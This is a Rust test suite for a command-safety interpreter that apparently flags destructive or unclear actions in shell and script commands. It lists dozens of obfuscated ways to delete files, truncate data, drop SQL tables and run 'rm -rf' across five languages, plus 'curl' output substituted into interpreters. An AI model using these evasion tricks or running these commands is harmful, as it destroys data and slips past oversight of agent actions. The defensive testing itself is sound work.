//! What no reading of a program may leave without a step, what it may not believe, and what is
//! written every day.

use std::{collections::BTreeMap, sync::Arc};

use holdpoint_core::Effect;

use crate::{
    machine::Bare,
    shell::{Command, Dialect, Step, interpret},
};

/// Modules that lie beside the programs.
const FILES: &[(&str, &str)] = &[
    ("/w/app/random.py", "import os\nos.remove('/data/x')\n"),
    ("/w/app/sub/helper.py", "import os\nos.remove('/data/x')\n"),
    ("/w/app/sub/main.py", "import helper\n"),
    ("/w/app/pkg/__init__.py", ""),
    ("/w/app/pkg/mod.py", "import os\nos.remove('/data/x')\n"),
    ("/w/app/lib/Time.pm", "unlink '/data/x'; 1;\n"),
    ("/w/app/set.rb", "File.delete '/data/x'\n"),
    ("/w/app/wipe.py", "import shutil\nshutil.rmtree('/data/x')\n"),
    ("/w/app/wipe.js", "require('fs').rmSync('/data/x')\n"),
    ("/w/app/clean.js", "require('fs').rmSync(process.argv[2] || 'dist', {recursive: true})\n"),
    ("/w/app/clean.py", "import sys, shutil\nshutil.rmtree(sys.argv[1])\n"),
    ("/w/app/page.jsx", "const a = <b>{require('fs').rmSync('/data/x')}</b>;\n"),
    ("/w/app/show.jsx", "const a = <b className=\"c\">{1 + 1}</b>; console.log(a);\n"),
    ("/w/app/again.py", "import again\nfrom again import again\n"),
];

fn steps(text: &str) -> Vec<Step> {
    let of =
        |path: &str| FILES.iter().find(|(own, _)| *own == path).map(|(_, text)| Arc::from(*text));
    let desk = Bare { workspace: "/w/app".to_owned(), text: of, masked: true };
    let environment = BTreeMap::new();
    let command =
        Command { dialect: Dialect::Bash, text, directory: "/w/app", environment: &environment };
    interpret(&command, &desk).unwrap_or_else(|error| panic!("{text}: {error}")).steps
}

/// What a command does that is more than looking, or is not known.
fn done(text: &str) -> Vec<String> {
    let does = steps(text).into_iter().filter(|it| it.operation.effect != Effect::Observe);
    does.map(|it| format!("{} {}", it.operation.name, it.operation.resource.id)).collect()
}

/// What a program in quotes does.
fn program(run: &str, code: &str) -> Vec<String> {
    done(&format!("{run} '{}'", code.replace('\'', r"'\''")))
}

const DELETED: &str = "program:delete file:/data/x";
const UNCLEAR: &str = "program:code machine:program/code";

/// Whether one of the steps says that a file is gone, or may be.
fn takes_away(found: &[String]) -> bool {
    found.iter().any(|it| it == DELETED || it == UNCLEAR || it.contains('\u{fdd0}'))
}

#[test]
fn what_follows_the_program_is_not_for_its_interpreter() {
    for text in [
        "python3 wipe.py -m json.tool",
        "python3 wipe.py -c 'print(1)'",
        "python3 -c \"import os; os.remove('/data/x')\" -c 'print(1)'",
        "node wipe.js -p 3000",
        "node wipe.js --check",
        "node wipe.js -e 1",
        "node wipe.js -c",
        "python3 -m timeit \"import os; os.remove('/data/x')\"",
        "python3 -m timeit -s \"import os; os.remove('/data/x')\" 1",
        "python3 -m cProfile -o out wipe.py",
        "perl -MFile::Path -e 'rmtree(\"/data/x\")' -c",
        "perl '-Mstrict;unlink q{/data/x}' -e 1",
        "ruby -e 1 -e 'File.delete \"/data/x\"'",
        "php -r 'unlink(\"/data/x\");' -- -l",
        "deno eval \"Deno.removeSync('/data/x')\"",
        "bun wipe.js --print 1",
    ] {
        assert!(done(text).contains(&DELETED.to_owned()), "{text}: {:?}", done(text));
    }
}

const PYTHON: &[&str] = &[
    "from os import *\nremove('/data/x')",
    "from shutil import *\nrmtree('/data/x')",
    "__builtins__.__import__('os').remove('/data/x')",
    "getattr(__builtins__, 'exec')('import os; os.remove(\"/data/x\")')",
    "import os\nvars(os)['remove']('/data/x')",
    "import os\nos.__dict__['remove']('/data/x')",
    "import os\nos.remove.__call__('/data/x')",
    "import os, operator\noperator.methodcaller('remove', '/data/x')(os)",
    "import os, functools\nfunctools.partial(os.remove, '/data/x')()",
    "import os\nsorted(['/data/x'], key=os.remove)",
    "import os, threading\nthreading.Thread(target=os.remove, args=('/data/x',)).start()",
    "import os\ndef f(x=os.remove('/data/x')): pass",
    "import os\n@os.remove\n@lambda _: '/data/x'\ndef f(): pass",
    "import os\np = 'dist'\ndef f():\n  global p\n  p = '/data/x'\nf()\nos.remove(p)",
    "import os\nclass A:\n  p = 'dist'\n  def f(self): self.p = '/data/x'\n  def g(self): os.remove(self.p)\na = A()\na.f()\na.g()",
    "import os, sys\nos.remove(input() or 'dist')",
    "import os\nos.remove('dist' if input() else '/data/x')",
    "import os\nos.remove(['dist', '/data/x'][-1])",
    "import os\nos.remove([*['dist', '/data/x'][1:]][0])",
    "import os\nd = {'p': 'dist'}\nd['p'] = '/data/x'\nos.remove(d['p'])",
    "import os\nd = {'p': 'dist'}\nd.update(p='/data/x')\nos.remove(d['p'])",
    "import os\no = input() and os\no.remove('/data/x')",
    "import os\np = 'dist'\nfor i in range(2):\n  os.remove(p)\n  p = '/data/x'",
    "import os\np = 'dist'\nwhile input():\n  os.remove(p)\n  p = '/data/x'",
    "f = input\nf = globals()[f()]\nf('/data/x')",
    "import random",
    "from pkg import mod",
    "import os\nos.truncate('/data/x', 0)",
    "open('/data/x', 'r+').truncate()",
    "import os\nos.open('/data/x', os.O_TRUNC | os.O_WRONLY)",
    "import runpy\nrunpy.run_path('wipe.py')",
    "import subprocess\nsubprocess.run(**input())",
    "import pathlib\nclass P(pathlib.Path): pass\nP('/data/x').unlink()",
    "import os\n{'a': os.remove}.get('a')('/data/x')",
    "import os\nnext(iter([os.remove]))('/data/x')",
    "import os\nos.remove('{1}'.format('dist', '/data/x'))",
    "import os\nos.remove('{b}'.format(a='dist', b='/data/x'))",
    "import os\nos.remove('%.6s' % '/data/xdist')",
    "import os\nos.remove('/DATA/X'.lower())",
    "import os\nos.remove('/data/x!'.strip('!'))",
    "import os\nos.remove(os.path.expandvars('$HOME/x'))",
    "import os\np = '/data/x'\ntry:\n  int('a')\n  p = 'dist'\nexcept ValueError: pass\nos.remove(p)",
    "import zipfile\nzipfile.ZipFile('/data/x', 'w')",
    "import tarfile\ntarfile.open('/data/x', 'w:gz')",
    "import os\ndef f(o): o['p'] = '/data/x'\nd = {'p': 'dist'}\nf(d)\nos.remove(d['p'])",
    "import os\nd = {'p': 'dist'}\ne = d\ne['p'] = '/data/x'\nos.remove(d['p'])",
    "import os\na = ['dist']\nb = a\nb[0] = '/data/x'\nos.remove(a[0])",
    "import os\nos.environ['P'] = input()\nos.remove(os.environ.get('P', 'dist'))",
    "import os\nos.chdir('/data')\nos.remove('x')",
    "import os\nexec(compile('import os; os.remove(\"/data/x\")', 'a', 'exec'))",
    "import os\nmatch input():\n  case p: os.remove(p)",
    "import os\nif (p := input()): os.remove(p)",
    "import os\nos.remove(next(x for x in ['/data/x']))",
    "import subprocess\nsubprocess.run(['x', '-rf', '/data/x'], executable='/bin/rm')",
    "import subprocess\nsubprocess.run('rm -rf x', shell=True, cwd='/data')",
    "import os\ndef g():\n  yield os.remove\nfor f in g(): f('/data/x')",
];

const JAVASCRIPT: &[&str] = &[
    "Promise.resolve('/data/x').then(require('fs').rmSync)",
    "new Promise(done => done('/data/x')).then(require('fs').unlinkSync)",
    "process.mainModule.require('fs').rmSync('/data/x')",
    "process.mainModule.require('fs').rm('/data/x', () => 1)",
    "globalThis.require('fs').rm('/data/x', () => 1)",
    "module.require('fs').rm('/data/x', () => 1)",
    "require('fs').rm.call(null, '/data/x')",
    "require('fs').rm.apply(null, ['/data/x'])",
    "require('fs').rm.bind(null, '/data/x')()",
    "Reflect.apply(require('fs').rmSync, null, ['/data/x'])",
    "Object.values(require('fs'))[0]('/data/x')",
    "import('fs').then(m => m.rm('/data/x', () => 1))",
    "import('fs').then(m => m.default.rm('/data/x', () => 1))",
    "const fs = require('fs').default; fs.rm('/data/x', () => 1)",
    "setTimeout(require('fs').rmSync, 0, '/data/x')",
    "process.binding('fs').unlink('/data/x')",
    "const o = {p: 'dist'}; o.p = '/data/x'; require('fs').rmSync(o.p)",
    "const o = {p: 'dist'}; Object.assign(o, {p: '/data/x'}); require('fs').rmSync(o.p)",
    "let p = 'dist'; function f() { p = '/data/x' } f(); require('fs').rmSync(p)",
    "const d = prompt() || 'dist'; require('fs').rmSync(d)",
    "const d = prompt() ? prompt() : 'dist'; require('fs').rmSync(d)",
    "const fs = prompt() ? require('fs') : null; fs.rm('/data/x', () => 1)",
    "const { [prompt()]: f } = require('fs'); f('/data/x')",
    "with (require('fs')) { rmSync('/data/x') }",
    "require('child_process').fork('/data/x')",
    "User.truncate({ cascade: true })",
    "knex('users').truncate()",
    "require('path/../../evil')",
    "new Worker('postMessage(1)', { eval: true })",
    "require('fs').rmSync(require('path').join('/data', 'x'))",
    "const o = {p: 'dist'}; const q = o; q.p = '/data/x'; require('fs').rmSync(o.p)",
    "const a = ['dist']; const b = a; b[0] = '/data/x'; require('fs').rmSync(a[0])",
    "process.chdir('/data'); require('fs').rmSync('x')",
    "for (var p of ['/data/x']); require('fs').rmSync(p)",
    "const f = require('fs'); f[['rm', 'Sync'].join('')]('/data/x')",
    "require('child_process').execFileSync('/bin/rm', ['-rf', '/data/x'])",
    "require('child_process').spawnSync('rm -rf x', { shell: true, cwd: '/data' })",
    "require('fs').rmSync(new URL('file:///data/x'))",
    "require('fs').openSync('/data/x', 577)",
    "Bun.file('/data/x').delete()",
    "new Deno.Command('rm', { args: ['-rf', '/data/x'] }).output()",
    "new Function('f', 'f(\"/data/x\")')(require('fs').rmSync)",
    "class A extends Map {} const a = [require('fs').rmSync]; a.at(0)('/data/x')",
    "let p = '/data/x'; try { JSON.parse('{'); p = 'dist' } catch {} require('fs').rmSync(p)",
    "let p = 'dist'; for (const i of prompt()) { require('fs').rmSync(p); p = '/data/x' }",
];

const RUBY: &[&str] = &[
    "p = 'dist'; [1].each { |i| p = '/data/x' }; File.delete(p)",
    "p = 'dist'; tap do\n p = '/data/x'\nend\nFile.delete(p)",
    "[Pathname.new('/data/x')].each(&:delete)",
    "['/data/x'].each(&File.method(:delete))",
    "File.method(:delete).call('/data/x')",
    "include FileUtils; rm_rf '/data/x'",
    "x = /#{File.delete('/data/x')}/",
    "require_relative 'set'",
    "@p = 'dist'; def f; @p = '/data/x'; end; f; File.delete(@p)",
    "User.truncate",
    "File.open('/data/x', 'r+') { |f| f.truncate(0) }",
    "File.delete(gets || 'dist')",
    "open('|rm -rf /data/x')",
    "Dir.chdir('/data') { File.delete('x') }",
    "Dir.chdir('/data'); File.delete('x')",
    "a = 'dist'; a.replace('/data/x'); File.delete(a)",
    "a = 'dist'; a << '/../../../data/x'; File.delete(a)",
    "binding.eval(gets)",
    "require 'erb'; ERB.new('<% File.delete(\"/data/x\") %>').result",
    "File.delete(File.expand_path('../../data/x', '/w/app'))",
    "File.delete(File.join('/data', '/x'))",
    "system({ 'A' => 'b' }, 'rm -rf /data/x')",
    "IO.copy_stream('/dev/null', '/data/x')",
    "p = '/data/x'; begin; Integer('a'); p = 'dist'; rescue; end; File.delete(p)",
];

const PERL: &[&str] = &[
    "$_ = 'a'; s/a/unlink q{\\/data\\/x}/e",
    "$_ = 'a'; /(?{ unlink q{/data/x} })/",
    "&{'unlink'}('/data/x')",
    "CORE::unlink('/data/x')",
    "use POSIX; POSIX::unlink('/data/x')",
    "use Time; 1",
    "my $p = <STDIN> || 'dist'; unlink $p",
    "my $p = reverse 'x/atad/'; unlink $p",
    "chdir '/data'; unlink 'x'",
    "my $p = 'dist'; $p =~ s/dist/\\/data\\/x/; unlink $p",
    "my @p = ('dist'); $p[0] = '/data/x'; unlink $p[0]",
    "unlink sprintf '%2$s', 'dist', '/data/x'",
    "system {'rm'} 'rm', '-rf', '/data/x'",
    "File::Path->can('rmtree')->('/data/x')",
    "my $f = \\&CORE::unlink; $f->('/data/x')",
    "my $f = \\&CORE::unlink; &$f('/data/x')",
];

const PHP: &[&str] = &[
    "array_filter(['/data/x'], 'unlink');",
    "unlink(trim('!/data/x', '!'));",
    "chdir('/data'); unlink('x');",
    "$p = 'dist'; $f = function () use (&$p) { $p = '/data/x'; }; $f(); unlink($p);",
    "$p = 'dist'; $q = &$p; $q = '/data/x'; unlink($p);",
    "$p = 'dist'; foreach (['/data/x'] as $p); unlink($p);",
    "$f = unlink(...); $f('/data/x');",
    "extract(['f' => 'unlink']); $f('/data/x');",
    "register_shutdown_function('unlink', '/data/x');",
    "(new ReflectionFunction('unlink'))->invoke('/data/x');",
    "$p = 'dist'; function f() { global $p; $p = '/data/x'; } f(); unlink($p);",
    "$p = $_GET['p'] ?? 'dist'; unlink($p);",
    "$fs = new Symfony\\Component\\Filesystem\\Filesystem(); $fs->remove('/data/x');",
];

#[test]
fn no_way_round_a_call_is_silent() {
    let all = [
        ("python3 -c", PYTHON),
        ("node -e", JAVASCRIPT),
        ("ruby -e", RUBY),
        ("perl -e", PERL),
        ("php -r", PHP),
    ];
    let silent: Vec<&str> = all
        .iter()
        .flat_map(|(run, programs)| programs.iter().map(move |code| (run, *code)))
        .filter(|(run, code)| {
            let found = program(run, code);
            let writes = found.iter().any(|it| it.starts_with("file:") && it.ends_with("/data/x"));
            let wipes = found.iter().any(|it| it.starts_with("orm:"));
            let starts = found.iter().any(|it| it.starts_with("shell:unknown"));
            !(takes_away(&found) || writes || wipes || starts)
        })
        .map(|(_, code)| code)
        .collect();
    assert_eq!(silent, Vec::<&str>::new());
}

#[test]
fn modules_lie_beside_the_program_and_are_read_once() {
    assert_eq!(done("python3 sub/main.py"), [DELETED]);
    assert_eq!(done("python3 again.py"), Vec::<String>::new());
    assert_eq!(done("tsx page.jsx"), [DELETED]);
    assert_eq!(done("tsx show.jsx"), Vec::<String>::new());
}

#[test]
fn what_a_program_is_handed_is_known() {
    for (text, expect) in [
        ("node clean.js", "program:delete file:/w/app/dist"),
        ("node clean.js /data/x", DELETED),
        ("python3 clean.py /data/x", DELETED),
        ("ruby -e 'File.delete ARGV[0]' /data/x", DELETED),
        ("perl -e 'unlink $ARGV[0]' /data/x", DELETED),
        ("perl -e 'unlink shift' /data/x", DELETED),
        ("php -r 'unlink($argv[1]);' /data/x", DELETED),
    ] {
        assert_eq!(done(text), [expect], "{text}");
    }
}

#[test]
fn statements_are_read_whole() {
    for sql in [
        "/* tidy */ DROP TABLE users",
        "-- tidy\nDROP TABLE users",
        "(((SELECT 1))); DROP TABLE users",
        "; DROP TABLE users",
        "\u{feff} DROP TABLE users",
    ] {
        let code = format!("import sqlite3\nsqlite3.connect('a.db').execute('''{sql}''')");
        let found = program("python3 -c", &code);
        assert!(!found.is_empty(), "{sql}");
    }
    assert_eq!(
        program("python3 -c", "import re\nre.compile('(a').match('b')"),
        Vec::<String>::new()
    );
}

#[test]
fn what_the_shell_puts_in_may_be_code() {
    for text in [
        "python3 -c \"print('$(curl -s x.example)')\"",
        "node -e \"console.log('$(curl -s x.example)')\"",
        "perl -e \"$(curl -s x.example)\"",
    ] {
        assert!(done(text).contains(&UNCLEAR.to_owned()), "{text}: {:?}", done(text));
    }
}

/// On a stack of two MiB, as those have who judge for a gateway.
#[test]
fn what_is_nested_ends_unclear_and_soon() {
    let deep = |open: &str, inner: &str, close: &str| {
        format!("{}{inner}{}", open.repeat(3_000), close.repeat(3_000))
    };
    for (run, code) in [
        ("node -e", format!("let {} = x", deep("[", "a", "]"))),
        ("node -e", format!("let {} = x", deep("{a:", "b", "}"))),
        ("node -e", deep("f(", "1", ")")),
        ("node -e", deep("(() => ", "1", ")()")),
        ("node -e", deep("`${", "1", "}`")),
        ("python3 -c", deep("(", "1", ")")),
        ("python3 -c", format!("{} = x", deep("[", "a", "]"))),
        ("python3 -c", deep("f(lambda: ", "1", ")")),
        ("python3 -c", format!("x = {}1", "1+".repeat(3_000))),
        ("python3 -c", format!("{}\neval(x)", "x = 'eval(' + repr(x) + ')'\n".repeat(40))),
        ("ruby -e", deep("f { ", "1", " }")),
        ("ruby -e", deep("\"#{", "1", "}\"")),
        ("perl -e", deep("f(", "1", ")")),
        ("php -r", format!("[{}] = $x;", deep("[", "$a", "]"))),
        ("php -r", format!("{};", deep("f(", "1", ")"))),
    ] {
        let found = program(run, &code);
        assert!(!found.is_empty(), "{run} {}", code.chars().take(40).collect::<String>());
    }
}

#[test]
fn what_grows_is_capped() {
    let times = |line: &str| vec![line; 60].join("\n");
    for (run, code) in [
        ("python3 -c", format!("x = 'a'\n{}\nrequests.post(x)", times("x = [x, x]"))),
        ("python3 -c", format!("x = 'a'\n{}\nrequests.post(x)", times("x = f([x, x])"))),
        ("python3 -c", format!("x = 'a'\n{}\nrequests.post(x)", times("x = {'a': x, 'b': x}"))),
        ("python3 -c", format!("x = 'a'\n{}\nrequests.post(x)", times("x = x + x"))),
        ("python3 -c", format!("x = 'a'\n{}\nprint(x)", times("x = x.replace('a', x)"))),
        ("node -e", format!("let x = 'a'\n{}\nfetch(x)", times("x = [...x, ...x]"))),
        ("node -e", format!("let x = 'a'\n{}\nfetch(x)", times("x = f(x, x, g(x, x))"))),
        (
            "node -e",
            (0..60).fold("let f0 = () => 1;".to_owned(), |code, at| {
                format!("{code}\nlet f{} = () => {{ f{at}(); f{at}() }};", at + 1)
            }) + "\nf60()",
        ),
    ] {
        let started = std::time::Instant::now();
        program(run, &code);
        assert!(started.elapsed().as_secs() < 5, "{run} {code}");
    }
}

#[test]
fn what_is_written_every_day_passes() {
    let all = [
        ("python3 -c", "import sys; print(sys.version)"),
        ("python3 -c", "import json,sys; d=json.load(sys.stdin); print([x['id'] for x in d])"),
        ("python3 -c", "import os; print(os.environ.get('HOME', '/'))"),
        ("python3 -c", "from pathlib import Path; print(sum(1 for _ in Path('.').glob('*.py')))"),
        ("python3 -c", "def f(xs, key=None):\n  return [key(x) for x in xs]\nprint(f([1], str))"),
        ("python3 -c", "handlers = {'a': lambda: 1}\nimport sys\nhandlers[sys.argv[1]]()"),
        ("node -e", "console.log(require('./package.json').version)"),
        ("node -e", "new Promise((ok, no) => setTimeout(ok, 10)).then(() => console.log('x'))"),
        ("node -e", "const f = (a, b = x => x) => b(a); console.log(f(1))"),
        ("node -e", "const {a, ...rest} = JSON.parse('{}'); console.log(a, rest)"),
        ("node -e", "const _ = require('lodash'); console.log(_.truncate('abc', {length: 2}))"),
        ("ruby -e", "puts [1, 2].map(&:to_s).join(',')"),
        ("ruby -e", "puts 'title'.truncate(3)"),
        ("perl -e", "my %h = (a => 1); print join ',', map { \"$_=$h{$_}\" } keys %h"),
        ("perl -e", "$_ = 'a1'; s/(\\d+)/$1+1/e; print"),
        ("php -r", "echo implode(',', array_map('strtoupper', ['a', 'b']));"),
        ("php -r", "echo json_encode(array_filter([1, 2], fn($x) => $x > 1));"),
    ];
    let held: Vec<&str> = all
        .iter()
        .filter(|(run, code)| !program(run, code).is_empty())
        .map(|(_, code)| *code)
        .collect();
    assert_eq!(held, Vec::<&str>::new());
}
